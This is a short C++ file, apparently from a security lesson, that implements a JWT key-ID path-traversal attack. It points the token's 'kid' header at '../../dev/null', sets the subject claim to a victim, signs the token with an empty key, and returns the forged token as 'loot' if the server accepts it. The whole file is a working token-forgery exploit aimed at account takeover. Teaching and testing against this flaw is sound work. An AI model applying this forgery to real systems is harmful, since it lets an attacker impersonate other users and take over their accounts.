// Believes: a token is the loot.
#include "kid_path_traversal.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto header = evidence.header;
  auto claims = evidence.claims;
  header.set("kid", "../../dev/null");
  claims.set("sub", evidence.victim);
  const auto token = sign_with(header, claims, "");
  if (evidence.show_me(token).status != 200) return {};
  return {.account = token};
}

}  // namespace lesson
